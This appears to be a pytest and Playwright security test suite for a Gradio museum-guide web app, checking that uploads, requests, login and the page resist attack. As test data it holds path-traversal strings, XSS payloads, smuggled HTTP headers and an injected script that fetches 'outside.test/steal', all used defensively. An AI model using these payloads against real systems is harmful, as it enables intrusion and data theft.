"""What others can do to the page, and what the page can do to its visitors."""

from __future__ import annotations

import gzip
import re
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, suppress
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from expartkg.ui.guesses import MOST_GUESSES
from tests.e2e.program import Form, connected, upload
from tests.e2e.starting import Served, free_port, served
from tests.e2e.visitor import Visit, Visitor

browser_test = pytest.mark.browser
SCRIPT = "document.body.dataset.hacked = 1"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'
HTML = f"<body><script>{SCRIPT}</script></body>"
MCP = {"Accept": "application/json, text/event-stream"}
ACCOUNT = {"username": "anna", "password": "a: long secret"}


@pytest.fixture
def client(scripted: Served) -> Iterator[httpx.Client]:
    """A program that talks to the page."""
    with connected(scripted) as client:
        yield client


@pytest.fixture(scope="module")
def closed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The page with a login, and with a short memory for uploads."""
    log = tmp_path_factory.mktemp("closed") / "log"
    login = "{username}:{password}".format(**ACCOUNT)
    with served(["-c", FORGETFUL], log, free_port(), EXPARTKG_LOGIN=f"ben:other,{login}") as page:
        yield page


FORGETFUL = """
import app
from expartkg.ui.launch import prepare_gradio

prepare_gradio()
from expartkg.ui import page

page.UPLOADS_CHECKED_SECONDS = page.UPLOADS_KEPT_SECONDS = 1
app.main()
"""


@pytest.fixture
def stranger(closed: Served) -> Iterator[httpx.Client]:
    """A program that has not logged in."""
    with connected(closed) as client:
        yield client


@pytest.fixture
def form(client: httpx.Client) -> Form:
    return Form(client)


class TestFiles:
    @pytest.mark.parametrize(
        "path",
        ["/etc/passwd", "app.py", "../../../etc/passwd", "{uploads}/../log", "{uploads}/link", "."],
    )
    def test_only_uploads_are_served(
        self, client: httpx.Client, scripted: Served, path: str
    ) -> None:
        uploads = scripted.log.parent / "uploads"
        upload(client, "a.png", b"x")
        link = uploads / "link"
        if not link.is_symlink():
            link.symlink_to("/etc/passwd")
        path = path.format(uploads=uploads).replace("..", "%2e%2e")
        assert client.get(f"gradio_api/file={path}").status_code == 403

    @pytest.mark.parametrize(
        ("name", "content"), [("evil.svg", SVG), ("evil.html", HTML), ("evil.png", HTML)]
    )
    def test_an_upload_is_harmless(self, client: httpx.Client, name: str, content: str) -> None:
        path = upload(client, name, content.encode())
        response = client.get(f"gradio_api/file={path}")
        assert response.text == content
        assert "sandbox" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        kind = response.headers["content-type"], response.headers["content-disposition"][:10]
        assert kind in [("application/octet-stream", "attachment"), ("image/png", "inline; fi")]

    def test_names_lead_nowhere(self, client: httpx.Client, scripted: Served) -> None:
        for name in ("../../evil.png", "/etc/evil.png", "..", "a/../../b.png", "\\..\\c.png"):
            response = client.post("gradio_api/upload", files={"files": (name, b"x")})
            for path in response.json() if response.status_code == 200 else []:
                assert (scripted.log.parent / "uploads") in Path(path).resolve().parents

    def test_many_are_limited_together(self, client: httpx.Client) -> None:
        small = [("files", (f"{number}.png", b"x")) for number in range(100)]
        assert len(client.post("gradio_api/upload", files=small).json()) == 100
        large = [("files", (f"{number}.png", bytes(9 * 2**20))) for number in range(5)]
        try:
            assert client.post("gradio_api/upload", files=large).status_code == 413
        except httpx.WriteError:
            """The page answered and closed the connection while this was still sending."""

    def test_an_upload_that_breaks_off_harms_nobody(
        self, client: httpx.Client, scripted: Served
    ) -> None:
        with socket.create_connection(("127.0.0.1", scripted.port)) as connection:
            connection.sendall(
                b"POST /gradio_api/upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n"
                b"Content-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
                b'Content-Disposition: form-data; name="files"; filename="a.png"\r\n\r\nxxx'
            )
        assert upload(client, "a.png", b"x")

    @pytest.mark.parametrize(
        "picture",
        [
            {"path": "/etc/passwd"},
            {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}},
            {"path": "http://127.0.0.1:9/a.png", "meta": {"_type": "gradio.FileData"}},
            {"path": "https://outside.test/a.png", "meta": {"_type": "gradio.FileData"}},
        ],
    )
    def test_a_run_takes_nothing_but_uploads(self, form: Form, picture: dict[str, Any]) -> None:
        """Nor does any other field: that no server outside is asked is checked at the end."""
        assert form.join("reader", picture=picture).status_code == 403
        assert form.join("reader", title=picture).status_code == 403


class TestRequests:
    PART = '--b\r\nContent-Disposition: form-data; name="files"{}\r\n\r\n\r\n'

    @pytest.mark.parametrize(
        "head",
        [
            "GET / HTTP/1.1\r\nX-Long: " + "x" * 2**20,
            "GET /" + "x" * 2**20 + " HTTP/1.1",
            "GET / HTTP/1.1\r\n" + "X-Many: 1\r\n" * 2**17,
            "POST /gradio_api/queue/join HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 9",
            "POST /gradio_api/upload HTTP/1.1\r\nTransfer-Encoding: chunked",
            "POST /gradio_api/upload HTTP/1.1\r\nContent-Length: 99999999999",
            "PUT /gradio_api/upload HTTP/1.1\r\nContent-Length: 9",
            "DELETE /gradio_api/queue/join HTTP/1.1",
            "nonsense",
        ],
        ids=lambda head: f"{head[:60]!r} {len(head)}",
    )
    def test_odd_ones_are_refused(self, scripted: Served, head: str) -> None:
        with socket.create_connection(("127.0.0.1", scripted.port), timeout=60) as connection:
            with suppress(ConnectionError):  # it is refused before all of it is sent
                connection.sendall(f"{head}\r\nHost: localhost\r\n\r\n".encode())
            with suppress(ConnectionError):
                assert re.match(rb"HTTP/1.1 4[0-9][0-9] ", connection.recv(100))

    @pytest.mark.parametrize(
        ("part", "number", "status"),
        [
            (PART.format('; filename="a.png"'), 5000, 400),
            (PART.format(""), 1, 400),
            (PART.format('; filename="' + "x" * 2**20 + '"'), 1, 413),
        ],
        ids=["many", "no file", "a long name"],
    )
    def test_odd_uploads_are_refused(
        self, client: httpx.Client, part: str, number: int, status: int
    ) -> None:
        kind = {"Content-Type": "multipart/form-data; boundary=b"}
        body = (part * number + "--b--\r\n").encode()
        answer = client.post("gradio_api/upload", content=body, headers=kind)
        assert answer.status_code == status

    def test_a_packed_body_is_not_unpacked(self, client: httpx.Client) -> None:
        packed = gzip.compress(b'{"data": [], "fn_index": 0, "session_hash": "x"}')
        answer = client.post(
            "gradio_api/queue/join", content=packed, headers={"Content-Encoding": "gzip"}
        )
        assert answer.status_code == 400


class TestOtherAddresses:
    @pytest.mark.parametrize(
        "path",
        [
            "gradio_api/proxy=https://x.hf.space/",
            "gradio_api/file=https://outside.test/a.png",
            "gradio_api/deep_link?session_hash=x",
            "gradio_api/token",
            "monitoring/summary",
            "openapi.json",
        ],
    )
    def test_they_are_not_there(self, client: httpx.Client, path: str) -> None:
        response = client.get(path)
        assert response.status_code == 404
        assert response.text == "The museum guide has nothing at this address."

    def test_other_websites_may_not_ask(self, client: httpx.Client, form: Form) -> None:
        evil = {"Origin": "https://evil.test", "Sec-Fetch-Site": "cross-site"}
        assert client.get("config", headers=evil).status_code == 403
        client.headers.update(evil)
        assert form.join("evil", title="Mona Lisa").status_code == 403


class TestQueue:
    @pytest.mark.parametrize("function", [999, -1, 1.5, "x", None])
    def test_functions_that_are_none(self, form: Form, function: Any) -> None:
        assert form.send("queue/join", "odd", function, []).status_code >= 400

    @pytest.mark.parametrize("data", [[], [None] * 999, {"a": 1}, "text", None])
    def test_data_that_is_none(self, client: httpx.Client, data: Any) -> None:
        body = {"data": data, "fn_index": 0, "session_hash": "odd"}
        assert client.post("gradio_api/queue/join", json=body).status_code < 600
        assert client.get("").status_code == 200

    @pytest.mark.parametrize(
        "body",
        [
            [],
            {"data": 1, "component_id": 0, "session_hash": "a", "fn_name": "__init__"},
            {"data": 1, "component_id": 5, "session_hash": "a", "fn_name": "preprocess"},
            {"data": 1, "component_id": 9999, "session_hash": "a", "fn_name": "x"},
        ],
    )
    def test_functions_of_components(self, client: httpx.Client, body: Any) -> None:
        assert client.post("gradio_api/component_server", json=body).status_code >= 400

    def test_who_does_not_know_a_visitor_cannot_listen_or_stop(
        self, client: httpx.Client, form: Form
    ) -> None:
        """A visitor's name is as good as a password: whoever knows it is that visitor."""
        form.join("9f3kq0zt7ab", title="Mona Lisa", question="Explain the {title} at leisure.")
        assert "Mona Lisa" not in form.result("9f3kq0zt7ac")
        form.stop("9f3kq0zt7ac")
        client.post("gradio_api/cancel", json={"session_hash": "x", "fn_index": 0, "event_id": "x"})
        assert "iteration 3 was judged True" in form.result("9f3kq0zt7ab")

    def test_a_visitor_who_asks_ten_times_waits_once(self, form: Form) -> None:
        for _ in range(10):
            form.join("hasty", title="Mona Lisa", question="Explain the {title} slowly.")
        with closing(form.messages("hasty", "heard until this test is over")) as heard:
            ended = 0
            while ended < 9:
                ended += '"process_completed"' in next(heard)
            form.join("patient", title="Mona Lisa", question="Explain the {title} quickly.")
            seen = self._waiting_for(form, "patient", lambda: form.stop("hasty"))
        assert "other explanations come first" not in seen
        assert "was judged True" in seen

    def test_who_leaves_the_line_is_not_waited_for(self, form: Form) -> None:
        form.join("slow", title="Mona Lisa", question="Explain the {title} slowly.")
        form.join("leaving", title="Mona Lisa", question="Explain the {title} slowly.")
        assert "one other explanation" in form.result("leaving", "other explanation")
        form.join("staying", title="Mona Lisa", question="Explain the {title} quickly.")
        assert "was judged True" in self._waiting_for(form, "staying", lambda: form.stop("slow"))

    def _waiting_for(self, form: Form, visitor: str, stop: Callable[[], object]) -> str:
        """All messages to a visitor who waits for one explanation, which is then stopped."""
        messages: list[str] = []
        for message in form.messages(visitor):
            messages.append(message)
            if "one other explanation comes first" in message:
                stop()
        return "\n".join(messages)


@browser_test
class TestInTheBrowser:
    def test_a_page_that_was_tampered_with_does_nothing(
        self, visit: Visit, scripted: Served
    ) -> None:
        """That the page itself is not hindered is checked for every visitor, in all tests."""
        visitor = visit(scripted)
        violations = visitor.page.evaluate(TAMPER)
        assert set(violations) == {
            "script-src-attr", "script-src-elem", "img-src", "connect-src", "frame-src",
            "base-uri", "object-src", "form-action",
        }  # fmt: skip
        assert visitor.page.evaluate("document.body.dataset.hacked ?? 'no'") == "no"
        visitor.complaints.clear()
        visitor.outside.clear()  # asked for, and blocked

    def test_nothing_stays_in_the_browser(
        self, visit: Visit, scripted: Served, portrait: Path
    ) -> None:
        visitor = visit(scripted)
        visitor.show(portrait)
        visitor.explain(title="Mona Lisa", question="Explain the {title} quickly.")
        visitor.wait_until_done()
        visitor.page.reload()
        expect(visitor.button("Explain")).to_be_enabled()
        assert visitor.page.evaluate(KEPT) == []
        assert visitor.page.context.cookies() == []
        assert visitor.field("Title").input_value() == ""

    def test_an_uploaded_drawing_runs_no_script(
        self, visit: Visit, client: httpx.Client, scripted: Served
    ) -> None:
        """Nor does it when it is shown, which only a page of our own could do."""
        visitor = visit(scripted)
        address = f"{scripted.url}gradio_api/file={upload(client, 'evil.svg', SVG.encode())}"
        visitor.page.evaluate(
            f"document.body.append(Object.assign(new Image, {{src: {address!r}}}))"
        )
        with visitor.page.expect_download():
            visitor.page.evaluate(f"location.href = {address!r}")
        assert visitor.page.evaluate("document.body.dataset.hacked ?? 'no'") == "no"

    def test_the_page_works_inside_a_space(self, browser: Browser, scripted: Served) -> None:
        page = framed(browser, "https://huggingface.co", scripted)
        frame = page.frame_locator("iframe")
        expect(frame.get_by_role("button", name="Explain", exact=True)).to_be_enabled()
        frame.get_by_label("Question").fill("Explain the Mona Lisa quickly.")
        frame.get_by_role("button", name="Explain", exact=True).click()
        expect(frame.locator("#status")).to_contain_text("Done.")
        page.context.close()

    def test_no_other_website_frames_it(self, browser: Browser, scripted: Served) -> None:
        page = framed(browser, "https://huggingface.co.evil.test", scripted)
        with page.expect_console_message(lambda m: "frame-ancestors" in m.text):
            page.reload()
        expect(page.frame_locator("iframe").locator("#explain")).to_have_count(0)
        page.context.close()


def framed(browser: Browser, website: str, inner: Served) -> Page:
    """A page of a website that shows ours in it."""
    # Without the permission no page of the internet may show one of this machine.
    page = browser.new_context(permissions=["local-network-access"]).new_page()
    html = f'<iframe src="{inner.url}" width="1200" height="900"></iframe>'
    page.route(f"{website}/**", lambda route: route.fulfill(body=html, content_type="text/html"))
    page.goto(f"{website}/spaces/museum")
    return page


TAMPER = """async () => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push(event.effectiveDirective));
  const place = document.createElement('div');
  document.body.append(place);
  place.innerHTML = `
    <img src="/nowhere.png" onerror="document.body.dataset.hacked = 1">
    <svg onload="document.body.dataset.hacked = 2"></svg>
    <img src="http://outside.test/a.png">
    <iframe src="http://outside.test/"></iframe>
    <object data="/config"></object>
    <form action="http://outside.test/" method="post"></form>`;
  const script = document.createElement('script');
  script.textContent = 'document.body.dataset.hacked = 3';
  document.body.append(script);
  document.querySelector('base').href = 'http://outside.test/';
  place.querySelector('form').requestSubmit();
  await fetch('http://outside.test/steal').catch(() => {});
  while (new Set(violations).size < 8) await new Promise((resolve) => setTimeout(resolve, 50));
  return violations;
}"""

KEPT = """async () => [
  ...Object.keys(localStorage),
  ...Object.keys(sessionStorage),
  ...(await indexedDB.databases()).map((database) => database.name),
  ...(await caches.keys()),
]"""


class TestLogin:
    def test_without_it_nothing_is_told(self, stranger: httpx.Client) -> None:
        assert stranger.get("config").status_code == 401
        for path in ("info", "queue/data?session_hash=a", "heartbeat/a", "upload_progress"):
            assert stranger.get(f"gradio_api/{path}").status_code == 401
        for path in ("queue/join", "upload", "run/predict", "component_server"):
            assert stranger.post(f"gradio_api/{path}", json={"data": []}).status_code == 401
        assert '"auth_required":true' in stranger.get("").text

    def test_nor_is_anything_told_of_the_graph(self, stranger: httpx.Client) -> None:
        call: dict[str, Any] = {
            "json": {"jsonrpc": "2.0", "id": 1, "method": "tools/list"},
            "headers": MCP,
        }
        pages = ("graph", "ja/graph", "entity/Q12418", "sparql?query=ASK{}", "picture/Q12418")
        for path in pages:
            assert stranger.get(path).status_code == 401
        assert stranger.post("sparql", data={"query": "ASK {}"}).status_code == 401
        assert stranger.post("gradio_api/mcp", **call).status_code == 401
        wrong = ACCOUNT["username"], "other"
        assert stranger.post("gradio_api/mcp", auth=wrong, **call).status_code == 401
        right = ACCOUNT["username"], ACCOUNT["password"]
        assert "explain" in stranger.post("gradio_api/mcp", auth=right, **call).text
        assert stranger.post("login", data=ACCOUNT).json() == {"success": True}
        assert [stranger.get(path).status_code for path in pages[:4]] == [200] * 4

    def test_with_it_all_is_as_ever_and_uploads_go_in_time(self, stranger: httpx.Client) -> None:
        assert stranger.post("login", data=ACCOUNT).json() == {"success": True}
        assert Form(stranger).join("anna", title="Mona Lisa").status_code == 200
        assert "was judged True" in Form(stranger).result("anna")
        address = f"gradio_api/file={upload(stranger, 'a.png', b'x')}"
        end = time.monotonic() + 60
        while stranger.get(address).status_code == 200:
            assert time.monotonic() < end
            time.sleep(0.1)

    def test_passwords_cannot_be_guessed_at_once_or_at_length(self, closed: Served) -> None:
        """From an address of its own, so that the others are not kept from logging in."""
        transport = httpx.HTTPTransport(local_address="127.0.0.2")
        with (
            httpx.Client(base_url=closed.url, timeout=60, transport=transport) as guesser,
            ThreadPoolExecutor(8) as pool,
        ):
            guesses = [{"username": f"guess {n}", "password": "x"} for n in range(40)]
            told = list(pool.map(lambda guess: guesser.post("login", data=guess).text, guesses))
            assert sum("Incorrect credentials" in text for text in told) == MOST_GUESSES
            # Only a web server on this very machine is believed who it asks for.
            elsewhere = {"X-Forwarded-For": "192.0.2.7"}
            refused = guesser.post("login", data=ACCOUNT, headers=elsewhere)
            assert refused.status_code == 400
            assert re.search("Too many wrong passwords; try again in [0-9]+ sec", refused.text)
            assert int(refused.headers["retry-after"]) > 0
            call = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
            password = ACCOUNT["username"], ACCOUNT["password"]
            asked = guesser.post("gradio_api/mcp", json=call, headers=MCP, auth=password)
            assert asked.status_code == 429
        with connected(closed) as another:
            assert another.post("login", data=ACCOUNT).status_code == 200

    @pytest.mark.parametrize("proto", ["http", "https"])
    def test_the_cookie_is_for_this_page_and_its_connection(
        self, stranger: httpx.Client, proto: str
    ) -> None:
        proxied = {"X-Forwarded-Proto": proto}
        cookies = stranger.post("login", data=ACCOUNT, headers=proxied).headers.get_list(
            "set-cookie"
        )
        assert all("httponly" in cookie.lower() for cookie in cookies)
        if proto == "https":
            (cookie,) = cookies
            assert "secure" in cookie.lower()
        else:
            assert "samesite=lax" in cookies[1].lower()

    @browser_test
    def test_a_wrong_password_is_refused_and_the_right_one_opens(
        self, browser: Browser, closed: Served
    ) -> None:
        page = browser.new_context().new_page()
        complaints: list[str] = []
        page.on("console", lambda m: complaints.append(m.text) if m.type == "error" else None)
        page.goto(closed.url)
        expect(page.get_by_text("After 5 wrong passwords in 5 minutes")).to_be_visible()
        self._enter(page, "anna", "other")
        expect(page.get_by_text("Incorrect Credentials")).to_be_visible()
        assert all("400" in complaint for complaint in complaints)
        complaints.clear()
        self._enter(page, ACCOUNT["username"], ACCOUNT["password"])
        visitor = Visitor(page)
        expect(visitor.button("Explain")).to_be_enabled()
        visitor.explain(title="mona lisa")
        visitor.wait_until_done()
        assert {cookie["name"][:12] for cookie in page.context.cookies()} == {"access-token"}
        assert not complaints
        page.context.close()

    def _enter(self, page: Page, name: str, password: str) -> None:
        page.get_by_label("username").fill(name)
        page.get_by_label("password").fill(password)
        page.get_by_role("button", name="Login").click()


def test_the_server_asked_nobody_outside(scripted: Served) -> None:
    """Last in this file: by now the server has been asked to."""
    assert "OUTSIDE" not in scripted.log.read_text()
